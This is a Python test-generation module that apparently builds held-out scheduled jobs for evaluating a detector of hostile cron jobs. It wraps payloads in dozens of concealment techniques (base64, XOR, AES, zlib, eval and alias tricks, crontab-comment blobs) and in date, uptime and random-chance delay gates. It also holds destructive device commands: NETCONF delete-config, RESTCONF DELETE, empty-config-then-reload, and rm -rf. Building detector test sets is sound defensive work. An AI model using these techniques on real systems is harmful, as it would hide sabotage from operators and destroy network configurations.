"""How a held-out job carries its payload: interpreters and tools, concealments and gates that
tests/adversarial does not generate. Each technique turns a payload into one command line a
scheduler runs, plus the files that command needs (scripts, modules, data, rc files)."""

from __future__ import annotations

import base64
import binascii
import random
import shlex
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from tests.heldout.effects import Payload


@dataclass
class Job:
    """What a technique produced: the scheduler's command line and the files it needs."""

    command: str
    files: dict[str, tuple[str, int]] = field(default_factory=dict)
    crontab_comment: str = ""       # a line the scheduler's crontab must also carry


def q(text: str) -> str:
    return shlex.quote(text)


def one_line(p: Payload) -> str:
    """The payload as a single shell line (device sessions piped from printf)."""
    if p.kind != "cli":
        return p.sh
    body = "\\n".join(ln.replace("%", "%%") for ln in p.lines)
    return f"printf '{body}\\n' | ssh -T oper@{p.host}"


def _script(marker: str, rng: random.Random, ext: str = ".sh") -> str:
    d = rng.choice(["/opt/ems/bin", "/usr/local/sbin", "/home/oper/bin", "/srv/ems/tools",
                    "/usr/local/lib/ems"])
    return f"{d}/{rng.choice(['sync', 'maint', 'nightly', 'ne-audit', 'tidy'])}-{marker}{ext}"


def _run_script(path: str, interp: str, text: str) -> Job:
    return Job(f"{interp} {path}", {path: (text, 0o755)})


# ------------------------------------------------------------------ other interpreters/tools
def awk_system(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind == "cli":
        body = "\\n".join(p.lines)
        return Job(f"awk 'BEGIN {{ printf \"{body}\\n\" }}' | ssh -T oper@{p.host}  # {m}")
    cmd = p.sh.replace("\\", "\\\\").replace('"', '\\"')
    if rng.random() < 0.5:
        head, _, tail = cmd.partition(" ")
        prog = f'BEGIN {{ c = "{head}"; a = " {tail}"; system(c a) }}'
    else:
        prog = f'BEGIN {{ system("{cmd}") }}'
    path = _script(m, rng, ".awk")
    return _run_script(path, rng.choice(["awk -f", "gawk -f", "mawk -f"]), prog + "\n")


def python_c_getattr(p: Payload, rng: random.Random, m: str) -> Job:
    cmd = one_line(p).replace("\\", "\\\\").replace("'", "\\'")
    code = (f"import os;getattr(os,'sys'+'tem')('{cmd}')" if rng.random() < 0.5 else
            f"import importlib;importlib.import_module('o'+'s').system('{cmd}')")
    return Job(f"python3 -c {q(code)}  # {m}")


def python_dunder_import(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind == "host" and p.argv[:2] == ("rm", "-rf"):
        code = f"__import__('shutil').rmtree({p.path!r})"
    elif p.kind == "cli":
        code = (f"__import__('subprocess').run(['ssh','-T','oper@{p.host}'],"
                f"input={chr(10).join(p.lines) + chr(10)!r},text=True)")
    else:
        argv = list(p.argv) if p.kind == "host" else list(p.snmp_argv)
        code = f"__import__('subprocess').call({argv!r})"
    return Job(f"/usr/bin/python3 -c {q(code)}  # {m}")


def python_m_module(p: Payload, rng: random.Random, m: str) -> Job:
    pkg = rng.choice(["emsops", "netutil", "nms_tasks"])
    base = rng.choice(["/usr/local/lib/python3.11/dist-packages", "/opt/ems/lib/python"])
    argv = (list(p.argv) if p.kind == "host" else list(p.snmp_argv) if p.kind == "snmp"
            else ["ssh", "-T", f"oper@{p.host}"])
    stdin = "" if p.kind != "cli" else f", input={chr(10).join(p.lines) + chr(10)!r}, text=True"
    text = ("import subprocess\n\n\ndef main():\n"
            f"    subprocess.run({argv!r}, check=False{stdin})\n\n\n"
            "if __name__ == '__main__':\n    main()\n")
    files = {f"{base}/{pkg}/__init__.py": ("", 0o644), f"{base}/{pkg}/{m}.py": (text, 0o644)}
    cd = f"cd {base} && " if base.startswith("/opt") else ""
    return Job(f"{cd}python3 -m {pkg}.{m}", files)


def perl_qx(p: Payload, rng: random.Random, m: str) -> Job:
    cmd = one_line(p).replace("\\", "\\\\").replace("@", "\\@").replace("$", "\\$")
    form = rng.choice([f"qx{{{cmd}}}", f"`{cmd}`", f"system qq{{{cmd}}}"])
    path = _script(m, rng, ".pl")
    return _run_script(path, "perl", f"#!/usr/bin/perl\nuse strict;\nmy $out = {form};\n")


def tclsh_exec(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind == "cli":
        lines = "\n".join(f"puts $ch {{{ln}}}" for ln in p.lines)
        text = (f"#!/usr/bin/tclsh\nset ch [open \"|ssh -T oper@{p.host}\" w]\n{lines}\n"
                "close $ch\n")
    else:
        argv = p.argv if p.kind == "host" else p.snmp_argv
        text = "#!/usr/bin/tclsh\nexec " + " ".join(f"{{{a}}}" for a in argv) + "\n"
    return _run_script(_script(m, rng, ".tcl"), "tclsh", text)


def busybox_sh(p: Payload, rng: random.Random, m: str) -> Job:
    return Job(f"busybox sh -c {q(one_line(p))}  # {m}")


def env_split(p: Payload, rng: random.Random, m: str) -> Job:
    inner = one_line(p).replace("\\", "\\\\").replace('"', '\\"')
    return Job(f"/usr/bin/env -S {q(f'sh -c {chr(34)}{inner}{chr(34)}')}  # {m}")


def xargs_sh(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind == "host":
        target = p.argv[-1]
        rest = " ".join(q(a) for a in p.argv[:-1])
        return Job(f"echo {q(target)} | xargs -I{{}} sh -c '{rest} \"$1\"' _ {{}}  # {m}")
    if p.kind == "snmp":
        a = p.snmp_argv
        return Job(f"echo {a[4]} | xargs -I@ {' '.join(q(x) for x in a[:4])} @ "
                   f"{' '.join(q(x) for x in a[5:])}  # {m}")
    return Job(f"echo {p.host} | xargs -I{{}} sh -c {q(one_line(p).replace(p.host, '{}'))}"
               f"  # {m}")


def find_exec(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind == "host" and p.argv[0] == "rm":
        parent, _, name = p.path.rpartition("/")
        return Job(f"find {parent} -maxdepth 1 -name {q(name)} -exec rm -rf {{}} +  # {m}")
    return Job(f"find /opt/ems/etc -maxdepth 1 -name ems.conf -exec sh -c {q(one_line(p))} "
               f"\\;  # {m}")


def gnu_parallel(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind == "snmp":
        a = p.snmp_argv
        return Job(f"parallel -j4 {' '.join(q(x) for x in a[:4])} {{}} "
                   f"{' '.join(q(x) for x in a[5:])} ::: {a[4]}  # {m}")
    if p.kind == "host":
        return Job(f"parallel {' '.join(q(x) for x in p.argv[:-1])} ::: {q(p.argv[-1])}  # {m}")
    return Job(f"parallel -j1 {q(one_line(p).replace(p.host, '{}'))} ::: {p.host}  # {m}")


# -------------------------------------------------------------------------- device sessions
def sshpass_session(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind != "cli":
        return Job(f"sshpass -f /opt/ems/etc/.pw ssh -o StrictHostKeyChecking=no ems@localhost "
                   f"{q(one_line(p))}  # {m}")
    body = "\\n".join(p.lines)
    pw = rng.choice(["-p 'N0c!2026'", "-f /opt/ems/etc/.ne-pw", "-e"])
    return Job(f"printf '{body}\\n' | sshpass {pw} ssh -tt -o StrictHostKeyChecking=no "
               f"oper@{p.host}  # {m}")


def socat_telnet(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind != "cli":
        return busybox_sh(p, rng, m)
    body = "\\r\\n".join(("oper", "$(cat /opt/ems/etc/.ne-pw)", *p.lines))
    tool = rng.choice([f"socat - TCP:{p.host}:23,crnl", f"nc -w 10 {p.host} 23",
                       f"ncat --telnet {p.host} 23"])
    return Job(f"printf \"{body}\\r\\n\" | {tool}  # {m}")


def ssh_stdin_file(p: Payload, rng: random.Random, m: str) -> Job:
    cmds = f"/opt/ems/share/{m}.cmds"
    if p.kind != "cli":
        return Job(f"ssh -T ems@localhost < {cmds}  # {m}", {cmds: (one_line(p) + "\n", 0o644)})
    return Job(f"ssh -T oper@{p.host} < {cmds}", {cmds: ("\n".join(p.lines) + "\n", 0o644)})


def expect_c(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind != "cli":
        argv = p.argv if p.kind == "host" else p.snmp_argv
        words = " ".join(a if a.isprintable() and " " not in a else f"{{{a}}}" for a in argv)
        return Job(f"expect -c {q('spawn ' + words + '; expect eof')}  # {m}")
    sends = "; ".join(f'send "{ln}\\r"; expect "#"' for ln in p.lines)
    script = f'spawn ssh oper@{p.host}; expect "#"; {sends}; send "exit\\r"'
    return Job(f"expect -c {q(script)}  # {m}")


def curl_rest(p: Payload, rng: random.Random, m: str, malicious: bool) -> Job:
    if p.kind != "cli":
        return python_c_getattr(p, rng, m)
    auth = "-sku admin:$(cat /opt/ems/etc/.ne-pw)"
    if p.platform == "junos":
        body = ('<load-configuration action="override" format="text"><configuration-text>'
                '</configuration-text></load-configuration>' if malicious else
                "<get-configuration/>")
        return Job(f"curl {auth} https://{p.host}:3443/rpc -H 'Content-Type: application/xml' "
                   f"-d '{body}'  # {m}")
    url = f"https://{p.host}/restconf/data/Cisco-IOS-XE-native:native/interface/ATM=0%2F1%2F0.100"
    verb = "-X DELETE" if malicious else "-H 'Accept: application/yang-data+json'"
    return Job(f"curl {auth} {verb} {q(url)}  # {m}")


def netconf_ssh(p: Payload, rng: random.Random, m: str, malicious: bool) -> Job:
    if p.kind != "cli":
        return ssh_stdin_file(p, rng, m)
    rpc = rng.choice([
        "<delete-config><target><startup/></target></delete-config>",
        '<edit-config><target><running/></target><config><interfaces><interface '
        'operation="delete"><name>at-0/0/0</name></interface></interfaces></config>'
        "</edit-config>"]) if malicious else "<get-config><source><running/></source></get-config>"
    xml = ('<?xml version="1.0"?>\n<hello xmlns="urn:ietf:params:xml:ns:netconf:base:1.0">'
           "<capabilities><capability>urn:ietf:params:netconf:base:1.0</capability>"
           "</capabilities></hello>]]>]]>\n"
           f'<rpc message-id="1" xmlns="urn:ietf:params:xml:ns:netconf:base:1.0">{rpc}</rpc>'
           "]]>]]>\n")
    path = f"/opt/ems/share/netconf/{m}.xml"
    return Job(f"ssh -p 830 -s oper@{p.host} netconf < {path}", {path: (xml, 0o644)})


def tftp_empty_startup(p: Payload, rng: random.Random, m: str, malicious: bool) -> Job:
    if p.kind != "cli" or p.platform != "ios":
        return sshpass_session(p, rng, m)
    if malicious:
        seq = (f"copy tftp://10.40.0.5/{m}-empty.cfg startup-config\\n\\nreload\\n\\n"
               if rng.random() < 0.5 else
               f"copy tftp://10.40.0.5/{m}-empty.cfg running-config\\n\\nwrite memory\\n")
        return Job(f": > /srv/tftp/{m}-empty.cfg && printf '{seq}' | ssh -T oper@{p.host}")
    return Job(f"printf 'copy running-config tftp://10.40.0.5/{m}-{p.host}.cfg\\n\\n\\n' | "
               f"ssh -T oper@{p.host}")


# ----------------------------------------------------------------------- shell concealments
def indirect(p: Payload, rng: random.Random, m: str) -> Job:
    words = shlex.split(one_line(p)) if p.kind != "cli" else None
    if words is None:
        text = f"#!/bin/bash\nv=job\njob={q(one_line(p))}\neval \"${{!v}}\"\n"
    else:
        text = (f"#!/bin/bash\nprog={q(words[0])}\nname=prog\n"
                f"\"${{!name}}\" {' '.join(q(w) for w in words[1:])}\n")
    return _run_script(_script(m, rng), "bash", text)


def ifs_array(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind == "cli":
        text = f"#!/bin/bash\nIFS='|' read -ra L <<< {q('|'.join(p.lines))}\n" \
               f"printf '%s\\n' \"${{L[@]}}\" | ssh -T oper@{p.host}\n"
    else:
        words = shlex.split(p.sh)
        text = f"#!/bin/bash\nIFS=: read -ra c <<< {q(':'.join(words))}\n\"${{c[@]}}\"\n"
    return _run_script(_script(m, rng), "bash", text)


def nameref(p: Payload, rng: random.Random, m: str) -> Job:
    text = (f"#!/bin/bash\nrun() {{\n  declare -n r=$1\n  eval \"$r\"\n}}\n"
            f"task={q(one_line(p))}\nrun task\n")
    return _run_script(_script(m, rng), "bash", text)


def ansi_c(p: Payload, rng: random.Random, m: str) -> Job:
    words = shlex.split(one_line(p)) if p.kind != "cli" else ["sh", "-c", one_line(p)]
    head = "".join(f"\\x{b:02x}" for b in words[0].encode())
    return _run_script(_script(m, rng), "bash",
                       f"#!/bin/bash\n$'{head}' {' '.join(q(w) for w in words[1:])}\n")


def brace(p: Payload, rng: random.Random, m: str) -> Job:
    if p.kind == "host" and p.path.count("/") >= 2 and p.argv[-1] == p.path:
        # only where the path is the word the brace stands in for (`mysql -e SQL` has none)
        parent, _, name = p.path.rpartition("/")
        return Job(f"{' '.join(q(a) for a in p.argv[:-1])} {parent}/{{{name},{name}.old}}"
                   f"  # {m}")
    words = shlex.split(one_line(p)) if p.kind != "cli" else ["sh", "-c", one_line(p)]
    return _run_script(_script(m, rng), "bash",
                       "#!/bin/bash\n{" + ",".join(q(w) for w in words[:2]) + "} "
                       + " ".join(q(w) for w in words[2:]) + "\n")


def pattern_subst(p: Payload, rng: random.Random, m: str) -> Job:
    junk = rng.choice(["Z", "_q", "@"])
    noisy = junk.join(one_line(p)) if len(one_line(p)) < 400 else one_line(p)
    return _run_script(_script(m, rng), "bash",
                       f"#!/bin/bash\nc={q(noisy)}\neval \"${{c//{junk}/}}\"\n")


def written_then_read(p: Payload, rng: random.Random, m: str) -> Job:
    tmp = rng.choice([f"/tmp/.{m}", f"/var/tmp/.cache-{m}", f"/dev/shm/{m}"])
    text = (f"#!/bin/sh\ncat > {tmp} <<'EOF'\n{one_line(p)}\nEOF\n"
            + rng.choice([f"sh {tmp}\n", f". {tmp}\n", f"eval \"$(cat {tmp})\"\n"]) + f"rm -f {tmp}\n")
    return _run_script(_script(m, rng), "sh", text)


def etc_environment(p: Payload, rng: random.Random, m: str) -> Job:
    var = f"EMS_TASK_{m.upper()}"
    return Job(f'sh -c "${var}"  # {m}',
               {"etc/environment": (f"{var}={q(one_line(p))}\n", 0o644)})


def alias_rc(p: Payload, rng: random.Random, m: str) -> Job:
    rc = f"/home/oper/.ems-{m}rc"
    text = f"#!/bin/bash\nshopt -s expand_aliases\n. {rc}\nnightly_sync\n"
    job = _run_script(_script(m, rng), "bash", text)
    job.files[rc] = (f"alias nightly_sync={q(one_line(p))}\n", 0o644)
    return job


def export_f(p: Payload, rng: random.Random, m: str) -> Job:
    text = (f"#!/bin/bash\nprune() {{\n  {one_line(p)}\n}}\nexport -f prune\n"
            + rng.choice(["bash -c prune\n", "nohup bash -c prune >/dev/null 2>&1 &\n"]))
    return _run_script(_script(m, rng), "bash", text)


def crontab_comment(p: Payload, rng: random.Random, m: str) -> Job:
    blob = base64.b64encode(one_line(p).encode()).decode()
    return Job(f"sed -n 's/^#{m} //p' /var/spool/cron/crontabs/oper | base64 -d | sh",
               crontab_comment=f"#{m} {blob}")


def openssl_enc(p: Payload, rng: random.Random, m: str) -> Job:
    key, iv = bytes(rng.randrange(256) for _ in range(16)), bytes(rng.randrange(256)
                                                                for _ in range(16))
    padder = padding.PKCS7(128).padder()
    data = padder.update(one_line(p).encode() + b"\n") + padder.finalize()
    enc = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
    blob = base64.b64encode(enc.update(data) + enc.finalize()).decode()
    path = f"/var/lib/ems/.{m}.dat"
    return Job(f"openssl enc -d -aes-128-cbc -K {key.hex()} -iv {iv.hex()} -a -in {path} | sh",
               {path: (blob + "\n", 0o600)})


def xor_python(p: Payload, rng: random.Random, m: str) -> Job:
    k = rng.randrange(1, 255)
    data = bytes(b ^ k for b in one_line(p).encode()).hex()
    text = (f"#!/usr/bin/env python3\nimport os\nK = {k}\nD = '{data}'\n"
            "os.system(bytes(b ^ K for b in bytes.fromhex(D)).decode())\n")
    return _run_script(_script(m, rng, ".py"), "python3", text)


def base64_file(p: Payload, rng: random.Random, m: str) -> Job:
    path = f"/var/lib/ems/.cache/{m}.b64"
    return Job(f"base64 -d {path} | sh", {path: (base64.encodebytes(one_line(p).encode())
                                                 .decode(), 0o644)})


def zlib_fromhex(p: Payload, rng: random.Random, m: str) -> Job:
    blob = zlib.compress(one_line(p).encode()).hex()
    code = f"import zlib,os;os.system(zlib.decompress(bytes.fromhex('{blob}')).decode())"
    return Job(f"python3 -c {q(code)}  # {m}")


def chr_codes(p: Payload, rng: random.Random, m: str) -> Job:
    codes = ",".join(str(b) for b in one_line(p).encode())
    text = ("#!/usr/bin/env python3\nimport subprocess\n"
            f"subprocess.call(''.join(map(chr, [{codes}])), shell=True)\n")
    return _run_script(_script(m, rng, ".py"), "python3", text)


def perl_uudecode(p: Payload, rng: random.Random, m: str) -> Job:
    blob = binascii.b2a_uu(one_line(p).encode()[:45]).decode().rstrip("\n")
    rest = one_line(p).encode()[45:]
    lines = [blob] + [binascii.b2a_uu(rest[i:i + 45]).decode().rstrip("\n")
                      for i in range(0, len(rest), 45)]
    text = ("#!/usr/bin/perl\nmy $c = unpack('u', <<'UU');\n" + "\n".join(lines)
            + "\nUU\nsystem($c);\n")
    return _run_script(_script(m, rng, ".pl"), "perl", text)


def perl_pack_hex(p: Payload, rng: random.Random, m: str) -> Job:
    return Job(f"perl -e 'system pack(\"H*\", \"{one_line(p).encode().hex()}\")'  # {m}")


def tr_delete(p: Payload, rng: random.Random, m: str) -> Job:
    junk = rng.choice(["#", "~", "^"])
    noisy = junk.join(one_line(p))
    return _run_script(_script(m, rng), "sh",
                       f"#!/bin/sh\necho {q(noisy)} | tr -d '{junk}' | sh\n")


def here_string(p: Payload, rng: random.Random, m: str) -> Job:
    line = (f"bash <<< {q(one_line(p))}" if rng.random() < 0.5 else
            f"source <(echo {q(one_line(p))})")
    return _run_script(_script(m, rng), "bash", f"#!/bin/bash\n{line}\n")


def wrapped(p: Payload, rng: random.Random, m: str) -> Job:
    w = rng.choice(["su - ems -c {c}", "runuser -u ems -- sh -c {c}", "setsid -f sh -c {c}",
                    "timeout 3600 sh -c {c}", "chroot / /bin/sh -c {c}",
                    "sudo -n -u postgres sh -c {c}", "ionice -c3 nice -n19 sh -c {c}"])
    return Job(w.format(c=q(one_line(p))) + f"  # {m}")


# ----------------------------------------------------------------------------------- gates
def _gate(cond: str, p: Payload, rng: random.Random, m: str) -> Job:
    return _run_script(_script(m, rng), "bash", f"#!/bin/bash\n{cond} || exit 0\n{one_line(p)}\n")


def gate_julian(p: Payload, rng: random.Random, m: str) -> Job:
    return _gate(f'[ "$(date +%j)" -ge {rng.randint(100, 360)} ]', p, rng, m)


def gate_epoch(p: Payload, rng: random.Random, m: str) -> Job:
    return _gate(f"[ $(date +%s) -gt {rng.randint(1_800_000_000, 1_830_000_000)} ]", p, rng, m)


def gate_uptime(p: Payload, rng: random.Random, m: str) -> Job:
    return _gate(f"awk '{{exit !($1 > {rng.randint(20, 90) * 86400})}}' /proc/uptime", p, rng, m)


def gate_random(p: Payload, rng: random.Random, m: str) -> Job:
    return _gate(f"[ $((RANDOM % {rng.choice([7, 30, 90])})) -eq 0 ]", p, rng, m)


def long_sleep(p: Payload, rng: random.Random, m: str) -> Job:
    days = rng.randint(20, 60)
    if rng.random() < 0.5:
        return _gate(f"sleep $((86400 * {days}))", p, rng, m)
    cmd = one_line(p).replace("\\", "\\\\").replace("'", "\\'")
    code = f"import time,os;time.sleep({days * 86400});os.system('{cmd}')"
    return Job(f"python3 -c {q(code)}  # {m}")


Technique = Callable[..., Job]
DEVICE_AWARE = {"curl-rest": curl_rest, "netconf-ssh": netconf_ssh,
                "tftp-empty-config": tftp_empty_startup}
TECHNIQUES: dict[str, Technique] = {
    "awk-system": awk_system, "python-c-getattr": python_c_getattr,
    "python-c-dunder-import": python_dunder_import, "python-m-module": python_m_module,
    "perl-qx": perl_qx, "tclsh-exec": tclsh_exec, "busybox-sh": busybox_sh,
    "env-S": env_split, "xargs": xargs_sh, "find-exec": find_exec, "gnu-parallel": gnu_parallel,
    "sshpass-session": sshpass_session, "socat-telnet": socat_telnet,
    "ssh-stdin-file": ssh_stdin_file, "expect-c": expect_c,
    "indirect-expansion": indirect, "ifs-array": ifs_array, "declare-n": nameref,
    "ansi-c-quoting": ansi_c, "brace-expansion": brace, "pattern-substitution": pattern_subst,
    "written-then-read": written_then_read, "etc-environment": etc_environment,
    "alias-rc": alias_rc, "export-f": export_f, "crontab-comment": crontab_comment,
    "openssl-enc": openssl_enc, "xor-python": xor_python, "base64-file": base64_file,
    "zlib-fromhex": zlib_fromhex, "chr-codes": chr_codes, "perl-uudecode": perl_uudecode,
    "perl-pack-hex": perl_pack_hex, "tr-delete": tr_delete, "here-string": here_string,
    "wrapper": wrapped, "gate-julian": gate_julian, "gate-epoch": gate_epoch,
    "gate-uptime": gate_uptime, "gate-random": gate_random, "long-sleep": long_sleep,
    **DEVICE_AWARE,
}
# techniques a benign job would not use (hiding ordinary work has no reason)
MALICIOUS_ONLY = frozenset({"crontab-comment", "openssl-enc", "xor-python", "zlib-fromhex",
                            "chr-codes", "perl-uudecode", "perl-pack-hex", "tr-delete",
                            "pattern-substitution", "ansi-c-quoting", "gate-julian",
                            "gate-epoch", "gate-uptime", "gate-random", "long-sleep",
                            "indirect-expansion", "declare-n"})


def plain(p: Payload, rng: random.Random, m: str) -> Job:
    """The control: the payload as one plain shell line, to tell a scheduler's gap from a
    technique's."""
    return Job(f"{one_line(p)}  # {m}")


def apply(name: str, p: Payload, rng: random.Random, marker: str, malicious: bool) -> Job:
    if name in DEVICE_AWARE:
        return DEVICE_AWARE[name](p, rng, marker, malicious)
    if name == "plain":
        return plain(p, rng, marker)
    return TECHNIQUES[name](p, rng, marker)
